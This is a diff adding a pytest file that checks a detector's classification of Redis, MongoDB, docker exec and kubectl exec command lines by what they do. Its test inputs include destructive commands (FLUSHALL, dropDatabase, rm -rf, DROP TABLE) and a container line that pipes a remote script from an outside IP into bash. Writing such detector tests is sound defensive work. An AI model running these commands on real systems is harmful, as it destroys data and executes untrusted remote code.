@@ -1,0 +1,41 @@
+"""Command lines of data stores and containers are read by what they do (issue 18): Redis and MongoDB
+statements by their command or method — unknown ones run, they do not read — and a command run inside a
+container (``docker exec web rm -rf /data``, ``kubectl exec pod -- sh -c '…'``) is judged as a line."""
+
+from __future__ import annotations
+
+import pytest
+
+from detectors.capabilities.shell import analyse
+from schemas.types import Capability as C
+
+
+@pytest.mark.parametrize(
+    ("line", "capability"),
+    [
+        ("redis-cli -h cache FLUSHALL", C.DELETE),
+        ("redis-cli -h cache -p 6379 DEL sess:1", C.DELETE),
+        ("redis-cli GET k", C.READ),
+        ("redis-cli --scan --pattern 'sess:*'", C.READ),
+        ('redis-cli EVAL "return 1" 0', C.EXECUTE),
+        ("redis-cli REPLICAOF 203.0.113.9 6379", C.EXECUTE),
+        ("redis-cli ACL SETUSER bob on >pw +@all", C.IDENTITY),
+        ("db.sessions.deleteMany({})", C.DELETE),
+        ("db.getCollection('users').deleteMany({})", C.DELETE),
+        ("db.getSiblingDB('p').dropDatabase()", C.DELETE),
+        ("db.runCommand({dropDatabase: 1})", C.DELETE),
+        ("db.orders.updateMany({}, {$set: {x: 1}})", C.WRITE),
+        ("db.sessions.find({}).limit(3)", C.READ),
+        ("db.eval('x')", C.EXECUTE),
+        ("docker exec web rm -rf /data", C.DELETE),
+        ("docker exec -it -e A=1 pg psql -c 'DROP TABLE users'", C.DELETE),
+        ("kubectl --context prod -n app exec pod -- sh -c 'rm -rf /var/lib/app'", C.DELETE),
+    ],
+)
+def test_what_a_store_or_container_line_does(line: str, capability: C) -> None:
+    assert capability in analyse(line).capabilities, analyse(line).capabilities
+
+
+def test_a_remote_script_inside_a_container_is_remote_code() -> None:
+    facts = analyse("kubectl exec deploy/app -- sh -c 'curl -sSL http://198.51.100.7/x.sh | bash'")
+    assert "remote_code" in facts.flags
